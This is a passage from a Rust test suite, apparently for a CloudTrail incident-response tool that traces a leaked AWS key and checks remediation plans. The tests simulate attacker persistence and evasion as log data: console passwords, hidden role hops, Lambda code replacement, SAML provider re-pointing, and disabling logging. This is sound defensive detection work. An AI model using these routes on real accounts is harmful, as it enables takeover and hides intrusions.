    // (as after a rename, which keeps it): still the principal's.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let other = s
        .user_key(MAIN, "CI-Deployer", "AKIAJCIDEPLOYER2EXAM")
        .with_principal_id(&leaked.principal_id);
    s.call(&other, T0 + 600, "iam.amazonaws.com", "ListUsers", Value::Null);
    let c = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &c);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["seeds"], json!([LEAKED, "AKIAJCIDEPLOYER2EXAM"]), "{p:#}");
}

/// A `GetFederationToken` by the leaked user key, logged without its response: the session it
/// made is named by no record, and is the calling user's (F7), as one named is: the user gets
/// the deny, and the plan covers it (before: "principal unknown", NOT COVERED, exit 1).
#[test]
fn a_federation_token_logged_without_its_response_is_denied_on_its_caller() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    s.call(
        &leaked,
        T0 + 60,
        "sts.amazonaws.com",
        "GetFederationToken",
        json!({"name": "bob", "durationSeconds": 43200}),
    );
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    assert!(principals(&p, "put_user_policy").contains(&user), "{p:#}");
    assert_eq!(p["summary"]["covered_sessions"], 1, "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The leaked user key sets its own user's console password: `CreateLoginProfile` with no
/// `userName` (IAM's default: the caller), logged without its response, so no field names
/// the user; the attacker then signs in. The password and the console session are the
/// attacker's, as when the response names the user (before: only the key was deactivated,
/// the console session never denied, the password left, and `verify` said OK).
#[test]
fn a_password_the_leaked_user_key_set_on_its_own_user_is_the_attackers() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    s.call(
        &leaked,
        T0 + 30,
        "iam.amazonaws.com",
        "CreateLoginProfile",
        json!({"passwordResetRequired": false}),
    );
    let console = s.console_login(MAIN, T0 + 120, "ci-deployer");
    s.call(&console, T0 + 180, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&console.node_id()), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    assert!(principals(&p, "put_user_policy").contains(&user), "{p}");
    assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{p}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// Root's leaked key sets root's own console password (`CreateLoginProfile` with no user
/// name); a root console session then makes a key for user `ops`. Root's console session is
/// the attacker's (listed unrevocable, F11) and the key it made is deactivated; the password
/// itself is a review item naming root (before: the key stayed active, OK).
#[test]
fn a_root_password_the_attacker_set_taints_roots_console_sessions() {
    let mut s = Scenario::new();
    let root = s.root_key(MAIN, LEAKED);
    s.call(
        &root,
        T0 + 30,
        "iam.amazonaws.com",
        "CreateLoginProfile",
        json!({"passwordResetRequired": false}),
    );
    let console = s.root_console_login(MAIN, T0 + 120);
    let made = s.create_access_key(&console, T0 + 180, Some("ops"));
    s.call(&made, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&console.node_id()) && tainted.contains(&made.key), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    let keys: Vec<&str> = deactivated(&p);
    assert!(keys.contains(&made.key.as_str()), "{p}");
    assert!(
        actions(&p, "review").iter().any(|a| a["reason"]
            .as_str()
            .unwrap()
            .contains("root user's console password")
            || a["reason"].as_str().unwrap().starts_with("CreateLoginProfile root")),
        "{p}"
    );
    assert_eq!(verify(&d, &p).0, 0);
}

/// The same with root's console calls logged with no key (F17): they were one outside service
/// shared by every keyless root call, so the user and key root's console made after the
/// attacker set root's password were in no part of the plan (a review: plan exit 0, verify
/// OK). Now each is a session of root that the root rule takes when begun since the password
/// was set, and root's other keyless calls since are in the blast radius (here a `RunTask`, a
/// route not followed). The owner's keyless root session begun before is not the attacker's.
#[test]
fn what_roots_console_makes_without_a_key_after_the_attacker_set_its_password_is_cut() {
    let mut s = Scenario::new();
    let root = s.root_key(MAIN, LEAKED);
    let before = s.root_console_login(MAIN, T0 - 600);
    let owners = s.create_access_key(&before, T0 - 500, Some("backup"));
    let own = json!({"passwordResetRequired": false});
    s.call(&root, T0 + 30, "iam.amazonaws.com", "CreateLoginProfile", own);
    let console = s.root_console_login(MAIN, T0 + 120);
    s.create_user(&console, T0 + 150, "mallory");
    let made = s.create_access_key(&console, T0 + 180, Some("mallory"));
    s.call(&made, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let task = json!({"cluster": "prod", "taskDefinition": "root-task:1"});
    s.call(&console, T0 + 260, "ecs.amazonaws.com", "RunTask", task);
    let (mine, theirs) = (console.key.clone(), before.key.clone());
    s.edit_records(|_, r| {
        let k = r["userIdentity"]["accessKeyId"].as_str().unwrap_or("").to_string();
        if k == mine || k == theirs {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&made.key), "{tainted:?}");
    assert!(!tainted.contains(&owners.key), "{tainted:?}");
    let p = plan_with_routes(&d, LEAKED, 1);
    let keys = deactivated(&p);
    assert!(keys.contains(&made.key.as_str()), "{p:#}");
    assert!(!keys.contains(&owners.key.as_str()), "the owner's key: {p:#}");
    let mallory = format!("arn:aws:iam::{MAIN}:user/mallory");
    assert!(principals(&p, "put_user_policy").contains(&mallory), "{p:#}");
    let reviews = review_reasons(&p);
    let routes = reviews.iter().filter(|r| r.starts_with("RunTask") && r.contains("NOT FOLLOWED"));
    assert_eq!(routes.count(), 1, "{reviews:?}");
    let blast = run(&["blast", "--key", LEAKED, "--format", "json"], &d).1;
    let runs = blast["persistence"].as_array().unwrap().iter();
    assert_eq!(runs.filter(|p| p["event_name"] == "RunTask").count(), 1, "{blast:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");

    // Without the route, the plan cuts the rest: exit 0, verify OK.
    s.drop_records(|_, r| r["eventName"] == "RunTask");
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(deactivated(&p).contains(&made.key.as_str()), "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (0, Some("OK")), "{v}");
}

/// A tainted credential that stops its account's logging, deletes the trail, points it
/// elsewhere or changes what it records has cut off the evidence itself: what it did after is
/// in no log the responder will have (a review: a live session stopped the trail, then made a
/// user and key; plan 0, verify OK with the key live). Each is a route not followed: plan exit
/// 1, verify FAIL. A refused attempt leaves logging as it was: a review item, plan 0.
#[test]
fn a_tainted_credential_that_turns_logging_off_fails_the_plan() {
    let calls = [
        ("StopLogging", json!({"name": "main-trail"})),
        ("DeleteTrail", json!({"name": "main-trail"})),
        ("UpdateTrail", json!({"name": "main-trail", "s3BucketName": "elsewhere-logs"})),
        ("PutEventSelectors", json!({"trailName": "main-trail", "eventSelectors": []})),
        ("StopEventDataStoreIngestion", json!({"eventDataStore": "lake"})),
        ("DeleteEventDataStore", json!({"eventDataStore": "lake"})),
        ("LeaveOrganization", Value::Null),
        ("DisableAWSServiceAccess", json!({"servicePrincipal": "cloudtrail.amazonaws.com"})),
    ];
    for (name, request) in calls {
        for refused in [false, true] {
            let mut s = Scenario::new();
            let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
            let org = ["LeaveOrganization", "DisableAWSServiceAccess"].contains(&name);
            let src = if org { "organizations.amazonaws.com" } else { "cloudtrail.amazonaws.com" };
            let ua = "aws-cli/2.15.0";
            let error = refused.then_some("AccessDenied");
            s.call_full(&leaked, T0 + 60, src, name, request.clone(), Value::Null, error, ua);
            let d = write(&s, &[]);
            if refused {
                let p = plan(&d, LEAKED, "strict");
                assert_eq!(verify(&d, &p).0, 0, "{name} refused");
                continue;
            }
            let p = plan_with_routes(&d, LEAKED, 1);
            let reviews = review_reasons(&p);
            let route = reviews
                .iter()
                .find(|r| r.starts_with(name) && r.contains("NOT FOLLOWED"))
                .unwrap_or_else(|| panic!("{name}: {reviews:?}"));
            assert!(route.contains("logging may have stopped"), "{route}");
            let (code, v) = verify(&d, &p);
            assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{name}: {v}");
        }
    }
}

/// The leaked key takes a root session (`AssumeRoot`) in an account whose logs the trail
/// lacks: what it did there with root's task policy (root's password set) is unseen, and
/// root's console sessions after it are beyond any deny (F11). A route not followed (a review:
/// plan 0 and verify OK, with no item at all). With that account's logs, the root session's
/// calls are followed as root's, and nothing is left unfollowed.
#[test]
fn a_root_session_taken_in_an_account_without_logs_is_a_route_not_followed() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let clean = s.user_key(SECOND, "auditor", "AKIAI44QH8DHBEXAMPLE");
    s.call(&clean, T0 + 10, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let task = json!({"arn": "arn:aws:iam::aws:policy/root-task/IAMCreateRootUserPassword"});
    let request = json!({"targetPrincipal": SECOND, "taskPolicyArn": task});
    s.call(&leaked, T0 + 60, "sts.amazonaws.com", "AssumeRoot", request);
    let d = write(&s, &[SECOND]);
    let p = plan_with_routes(&d, LEAKED, 1);
    let reviews = review_reasons(&p);
    let want = format!("AssumeRoot root of account {SECOND}");
    assert!(
        reviews.iter().any(|r| r.starts_with(&want) && r.contains("NOT FOLLOWED")),
        "{reviews:?}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
    // With the account's logs but none of the root session's calls (here: the call logged
    // without its response, so no session is tied to it; a review found that, and logs of
    // the account that end early or hold another region, plan 0 and verify OK): the same.
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert!(review_reasons(&p).iter().any(|r| r.starts_with(&want)), "{p:#}");
    // With the session's answer and its calls in the trail, they are followed as root's.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let task = json!({"arn": "arn:aws:iam::aws:policy/root-task/IAMAuditRootUserCredentials"});
    let request = json!({"targetPrincipal": SECOND, "taskPolicyArn": task});
    let answer = json!({"credentials": {"accessKeyId": "ASIAIOSFODNN7ROOTTSK",
        "sessionToken": "x", "expiration": "Mar 11, 2024, 10:16:00 AM"}});
    let (src, ua) = ("sts.amazonaws.com", "aws-cli/2.15.0");
    s.call_full(&leaked, T0 + 60, src, "AssumeRoot", request, answer, None, ua);
    let mut root = s.root_key(SECOND, "ASIAIOSFODNN7ROOTTSK");
    root.issued_at = Some(T0 + 60);
    s.call(&root, T0 + 90, "iam.amazonaws.com", "ListAccessKeys", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(!review_reasons(&p).iter().any(|r| r.starts_with(&want)), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The leaked key's role session sets a source identity (`SourceIdentity` on `AssumeRole`) and
/// hops through an STS endpoint the trail does not record (F15) into an administrator role of
/// another account, whose calls carry that source identity (it survives chaining and cannot be
/// changed, F4) and make a key. Neither the session nor the key was tainted or named: plan 0,
/// verify OK (a review). Now the session is one to check: denied, its key named, plan exit 1,
/// verify FAIL. Not one to check: a session carrying another source identity, and one that
/// began before the tainted session carrying it.
#[test]
fn a_hidden_hop_carrying_a_tainted_source_identity_is_a_session_to_check() {
    let deploy = format!("arn:aws:iam::{MAIN}:role/DeployRole");
    let admin = format!("arn:aws:iam::{SECOND}:role/XAdmin");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    let early = s.assume_role(&alice, T0 - 600, &deploy, "early", 3600);
    let hop0 = s.assume_role(&early, T0 - 500, &admin, "early-hop", 3600);
    s.call(&hop0, T0 - 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let first = s.assume_role(&leaked, T0 + 60, &deploy, "build", 3600);
    let hop = s.assume_role(&first, T0 + 120, &admin, "build-1", 3600);
    let made = s.create_access_key(&hop, T0 + 180, Some("backup-svc"));
    s.call(&made, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let other = s.assume_role(&alice, T0 + 300, &admin, "nightly", 3600);
    s.call(&other, T0 + 360, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let ci = |c: &Cred| (c.key.clone(), "ci-bot");
    let tagged = [ci(&first), ci(&hop), ci(&early), ci(&hop0), (other.key.clone(), "nightly")];
    let (first_key, hops) = (first.key.clone(), [hop.key.clone(), hop0.key.clone()]);
    s.edit_records(|_, r| {
        let resp = r["responseElements"]["credentials"]["accessKeyId"].as_str().map(String::from);
        // The hops into XAdmin were made where the trail does not record them.
        if r["eventName"] == "AssumeRole" && resp.as_ref().is_some_and(|k| hops.contains(k)) {
            r["eventName"] = json!("DroppedBelow");
            return;
        }
        if resp.as_deref() == Some(first_key.as_str()) {
            r["requestParameters"]["sourceIdentity"] = json!("ci-bot");
        }
        let key = r["userIdentity"]["accessKeyId"].as_str().unwrap_or("").to_string();
        if let Some((_, v)) = tagged.iter().find(|(k, _)| *k == key) {
            r["userIdentity"]["sessionContext"]["sourceIdentity"] = json!(v);
        }
    });
    s.drop_records(|_, r| r["eventName"] == "DroppedBelow");
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    // The hop and the key made under it.
    assert_eq!(p["summary"]["sessions_to_check"], 2, "{p:#}");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    let reviews = review_reasons(&p);
    let checked: Vec<&&str> =
        reviews.iter().filter(|r| r.contains("carries the source identity")).collect();
    assert_eq!(checked.len(), 2, "{reviews:?}");
    assert!(checked.iter().any(|r| r.starts_with(&format!("session {}", hop.node_id()))));
    assert!(checked.iter().any(|r| r.starts_with(&format!("access key {}", made.key))));
    for c in [&hop0, &other] {
        assert!(!checked.iter().any(|r| r.contains(&c.key)), "{}: {checked:?}", c.key);
    }
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
}

/// The leaked key replaces the code of an existing Lambda function (`UpdateFunctionCode`,
/// naming it by ARN) and creates another with an existing role (`CreateFunction`). Lambda
/// takes the functions' role sessions itself (not in the logs) and names them by the function:
/// those issued after the calls run the attacker's code and are the attacker's; Lambda renews
/// them by itself, so only a deny by their `aws:userid` with no time condition cuts them (F21).
/// Not the attacker's: the function's session from before the change, another function of the
/// same role, and a session a person took with the function's name as session name.
#[test]
fn functions_the_attacker_changed_are_cut_renewals_included() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    let billing = format!("arn:aws:iam::{MAIN}:role/BillingRole");
    let ops = format!("arn:aws:iam::{MAIN}:role/OpsRole");
    let before = s.function_session(&billing, "billing-export", T0 + 30, 6 * 3600);
    s.call(&before, T0 + 40, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.function_change(
        &leaked,
        T0 + 60,
        "UpdateFunctionCode20150331v2",
        &format!("arn:aws:lambda:us-east-1:{MAIN}:function:billing-export"),
        None,
    );
    s.function_change(&leaked, T0 + 70, "CreateFunction20150331", "sync-job", Some(&ops));
    let after = s.function_session(&billing, "billing-export", T0 + 120, 6 * 3600);
    let created = s.function_session(&ops, "sync-job", T0 + 130, 6 * 3600);
    let other = s.function_session(&billing, "reports", T0 + 140, 6 * 3600);
    let person = s.assume_role(&alice, T0 + 150, &billing, "billing-export", 3600);
    for (k, c) in [&after, &created, &other, &person].into_iter().enumerate() {
        s.call(c, T0 + 300 + k as i64, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for c in [&after, &created] {
        assert!(tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
    for c in [&before, &other, &person] {
        assert!(!tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }

    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let puts = actions(&p, "put_role_policy");
        assert_eq!(puts.len(), 2, "{strategy}: {p}");
        for (role, function) in [("BillingRole", "billing-export"), ("OpsRole", "sync-job")] {
            let put = puts
                .iter()
                .find(|a| a["principal_arn"].as_str().unwrap().ends_with(role))
                .unwrap_or_else(|| panic!("{role}: {p}"));
            let st: Vec<&Value> = put["policy_document"]["Statement"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|st| st["Sid"] == "TrailhoundDenyChangedFunctions")
                .collect();
            assert_eq!(st.len(), 1, "{strategy} {role}: {put}");
            assert!(st[0]["Condition"].get("DateLessThan").is_none(), "{}", st[0]);
            let ids = st[0]["Condition"]["StringLike"]["aws:userid"].as_array().unwrap();
            assert_eq!(ids.len(), 1, "{ids:?}");
            assert!(ids[0].as_str().unwrap().ends_with(&format!(":{function}")), "{ids:?}");
        }
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");

        // Without the function statements, the sessions in the logs are cut (the time
        // condition) but the next ones Lambda takes are not: NOT covered.
        let mut m = p.clone();
        for a in m["actions"].as_array_mut().unwrap() {
            if a["type"] != "put_role_policy" {
                continue;
            }
            let old = serde_json::to_string(&a["policy_document"]).unwrap();
            let cmd = a["command"].as_str().unwrap().to_string();
            a["policy_document"]["Statement"]
                .as_array_mut()
                .unwrap()
                .retain(|st| st["Sid"] != "TrailhoundDenyChangedFunctions");
            if a["policy_document"]["Statement"].as_array().unwrap().is_empty() {
                a["policy_document"]["Statement"] = json!([{"Sid": "Keep", "Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"DateLessThan": {"aws:TokenIssueTime": CUT}}}]);
            }
            let new = serde_json::to_string(&a["policy_document"]).unwrap();
            a["command"] = json!(cmd.replace(&old, &new));
        }
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{strategy}: {v}");
        let missed = v["not_covered"].as_array().unwrap();
        for c in [&after, &created] {
            assert!(missed.iter().any(|x| x["session"] == c.node_id().as_str()), "{v}");
        }
    }
}

/// The leaked key changes a function's configuration (a layer, which later deployments keep);
/// then 100 deployment runs, each a session of its own, deploy its code; then its sessions
/// follow. Every one is the attacker's (the first tainted change reaches every later session,
/// however many callers came after), and each session has one edge, from the latest change
/// (callers × sessions edges would be unbounded on a busy pipeline or a forged trail).
#[test]
fn a_function_changed_by_many_credentials_after_the_attacker_stays_tainted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let ci = s.user_key(MAIN, "pipeline", "AKIAI44QH8DHBEXAMPLE");
    let deploy = format!("arn:aws:iam::{MAIN}:role/DeployRole");
    let role = format!("arn:aws:iam::{MAIN}:role/BillingRole");
    s.function_change(&leaked, T0, "UpdateFunctionConfiguration20150331v2", "billing-export", None);
    for k in 0..100 {
        let run = s.assume_role(&ci, T0 + 10 + 2 * k, &deploy, &format!("run{k}"), 900);
        s.function_change(
            &run,
            T0 + 11 + 2 * k,
            "UpdateFunctionCode20150331v2",
            "billing-export",
            None,
        );
    }
    let mut sessions = Vec::new();
    for k in 0..100 {
        let c = s.function_session(&role, "billing-export", T0 + 300 + 60 * k, 3600);
        s.call(&c, T0 + 310 + 60 * k, "s3.amazonaws.com", "ListBuckets", Value::Null);
        sessions.push(c.node_id());
    }
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for id in &sessions {
        assert!(tainted.contains(id), "{id}");
    }
    let (_, g, err) = run(&["sessions", "--format", "json"], &d);
    let links = g["edges"]
        .as_array()
        .unwrap_or_else(|| panic!("{err}"))
        .iter()
        .filter(|e| e["event_name"].as_str().is_some_and(|n| n.starts_with("UpdateFunction")))
        .count();
    assert_eq!(links, 100);
}

/// Names an attacker can pick: a function named `function` (and named so by ARN, or as
/// `function:NAME`) is linked; a function named like a person or an instance does not make
/// the person's SAML session or the instance's session the attacker's.
#[test]
fn function_names_are_read_as_lambda_reads_them_and_only_lambda_sessions_are_linked() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let okta = format!("arn:aws:iam::{MAIN}:saml-provider/CorpOkta");
    s.function_change(&leaked, T0, "CreateFunction20150331", "function", Some(&admin));
    let arn = format!("arn:aws:lambda:us-east-1:{MAIN}:function:billing-export");
    s.function_change(&leaked, T0 + 1, "UpdateFunctionCode20150331v2", &arn, None);
    s.function_change(&leaked, T0 + 2, "UpdateFunctionCode", "function:reports", None);
    s.function_change(&leaked, T0 + 3, "CreateFunction20150331", "jdoe", Some(&admin));
    let instance = "i-0a1b2c3d4e5f60718";
    s.function_change(&leaked, T0 + 4, "CreateFunction20150331", instance, Some(&admin));
    let named = s.function_session(&admin, "function", T0 + 60, 3600);
    let by_arn = s.function_session(&admin, "billing-export", T0 + 61, 3600);
    let partial = s.function_session(&admin, "reports", T0 + 62, 3600);
    let person = s.assume_role_with_saml(&okta, &admin, "jdoe", T0 + 63, 3600);
    let ec2 = s.instance_session(&admin, instance, T0 + 64, 3600);
    for (k, c) in [&named, &by_arn, &partial, &person, &ec2].into_iter().enumerate() {
        s.call(c, T0 + 300 + k as i64, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for c in [&named, &by_arn, &partial] {
        assert!(tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
    for c in [&person, &ec2] {
        assert!(!tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
}

/// The leaked key re-points the company's SAML provider (`UpdateSAMLProvider`) to a metadata
/// document of its own: every sign-in through the provider from then on is the attacker's,
/// whatever name it signs in as, to whichever role trusts the provider. The sign-in before the
/// change and the one through another provider are the company's. Before: no taint, OK.
#[test]
fn sign_ins_through_a_saml_provider_the_attacker_re_pointed_are_tainted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let okta = format!("arn:aws:iam::{MAIN}:saml-provider/CorpOkta");
    let other = format!("arn:aws:iam::{MAIN}:saml-provider/PartnerIdP");
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let eng = format!("arn:aws:iam::{MAIN}:role/Engineer");
    let before = s.assume_role_with_saml(&okta, &eng, "alice@example.com", T0 + 30, 4 * 3600);
    // Named in another letter case than the sign-ins name it (IAM does not tell them apart).
    s.update_saml_provider(&leaked, T0 + 60, &okta.replace("CorpOkta", "corpokta"));
    let after = s.assume_role_with_saml(&okta, &admin, "alice@example.com", T0 + 120, 4 * 3600);
    let partner = s.assume_role_with_saml(&other, &eng, "bob@example.net", T0 + 130, 4 * 3600);
    for (k, c) in [&before, &after, &partner].into_iter().enumerate() {
        s.call(c, T0 + 300 + k as i64, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&after.node_id()), "{tainted:?}");
    for c in [&before, &partner] {
        assert!(!tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        assert_eq!(
            principals(&p, "put_role_policy"),
            std::slice::from_ref(&admin),
            "{strategy}: {p}"
        );
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");
        assert!(v["covered"].as_array().unwrap().iter().any(|c| c["session"] == after.node_id()));
        // The provider itself is for the responder to restore: named in a review item.
        let review: Vec<&Value> = actions(&p, "review");
        assert!(
            review.iter().any(|a| a.to_string().contains("saml-provider/corpokta")),
            "{strategy}: {review:?}"
        );
    }
}

/// A role trusts a SAML provider by its ARN: the leaked key deletes the company's provider and
/// makes one again under its name (`CreateSAMLProvider`). A sign-in whose record lost its
/// response (linked by its role, session name and second, inferred), and the console session
/// of a sign-in (its own key, flagged from the console, no issuing call), are the attacker's
/// too, and so is the access key that console session made.
#[test]
fn a_saml_provider_made_again_and_its_console_sign_ins_are_followed() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let okta = format!("arn:aws:iam::{MAIN}:saml-provider/CorpOkta");
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    s.call(
        &leaked,
        T0,
        "iam.amazonaws.com",
        "DeleteSAMLProvider",
        json!({"sAMLProviderArn": okta}),
    );
    s.call_full(
        &leaked,
        T0 + 10,
        "iam.amazonaws.com",
        "CreateSAMLProvider",
        json!({"name": "CorpOkta", "sAMLMetadataDocument": "<EntityDescriptor/>"}),
        json!({"sAMLProviderArn": okta}),
        None,
        "aws-cli/2.15.0",
    );
    let signed = s.assume_role_with_saml(&okta, &admin, "mallory", T0 + 60, 12 * 3600);
    let key = s.new_key("ASIA");
    let console = signed.console_copy(&key);
    let made = s.create_access_key(&console, T0 + 120, Some("bob"));
    let unanswered = s.assume_role_with_saml(&okta, &admin, "trudy", T0 + 200, 12 * 3600);
    s.drop_last_response();
    s.call(&unanswered, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&made, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for id in [console.node_id(), made.node_id(), unanswered.node_id()] {
        assert!(tainted.contains(&id), "{id}: {tainted:?}");
    }
    let p = plan(&d, LEAKED, "strict");
    let keys: Vec<&str> = deactivated(&p);
    assert!(keys.contains(&made.key.as_str()), "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
}

/// Two ways a function's session could slip out of the function rule: it changes its own
/// function in the second it was issued (the latest change before it is then its own, which
/// must not hide the leaked key's earlier one), or the function is named after an instance a
/// colleague launched (that launch's link is no issuer). Both sessions make a key: cut.
#[test]
fn a_function_session_changing_itself_or_named_like_an_instance_is_still_followed() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let dev = s.user_key(MAIN, "dev", "AKIAI44QH8DHBEXAMPLE");
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let instance = "i-0abcd1234ef567890";
    s.run_instances(&dev, T0, "DevProfile", &[instance]);
    s.function_change(&leaked, T0 + 60, "UpdateFunctionCode20150331v2", "billing-export", None);
    s.function_change(&leaked, T0 + 61, "CreateFunction20150331", instance, Some(&admin));
    let own = s.function_session(&admin, "billing-export", T0 + 120, 12 * 3600);
    s.function_change(
        &own,
        T0 + 120,
        "UpdateFunctionConfiguration20150331v2",
        "billing-export",
        None,
    );
    let named = s.function_session(&admin, instance, T0 + 130, 12 * 3600);
    let a = s.create_access_key(&own, T0 + 200, Some("alice"));
    let b = s.create_access_key(&named, T0 + 210, Some("bob"));
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for c in [&own, &named, &a, &b] {
        assert!(tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
    let p = plan(&d, LEAKED, "strict");
    let keys: Vec<&str> = deactivated(&p);
    assert!(keys.contains(&a.key.as_str()) && keys.contains(&b.key.as_str()), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The session an AssumeRole made signs its calls with a `creationDate` 3 s after the call
/// (past the 2 s a use is matched by): what it did (a user it created) is still the
/// attacker's. It was an untainted orphan listed as collateral: the user escaped the plan and
/// `verify` said OK.
#[test]
fn a_session_whose_creation_date_is_off_by_seconds_is_still_cut_and_its_user_denied() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/R1");
    let sess = s.assume_role(&leaked, T0 + 100, &role, "s1", 43_200);
    let mut skewed = sess.clone();
    skewed.issued_at = Some(T0 + 103);
    s.create_user(&skewed, T0 + 600, "bd");
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&skewed.node_id()), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(p["attacker_users"][0]["user_name"], "bd", "{p}");
    assert!(principals(&p, "put_role_policy").iter().any(|a| a.ends_with(":role/R1")), "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert!(v["covered"].to_string().contains(&skewed.node_id()), "{v}");
    assert!(v["collateral"].as_array().unwrap().is_empty(), "{v}");
}

/// A session of a foreign account (its logs are not in the trail) makes one call naming 300
/// resources of ours (hostile or broken: ingest keeps 256, SPEC §8) and reads a directory
/// bucket (S3 Express). The plan denies what it kept, says in a review item that the rest got
/// no deny, and names the directory bucket only as what it is: no `arn:aws:s3:::…--x-s3`.
#[test]
fn resources_a_record_names_past_the_cap_are_reported_not_silently_left_undenied() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let hop = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 7200);
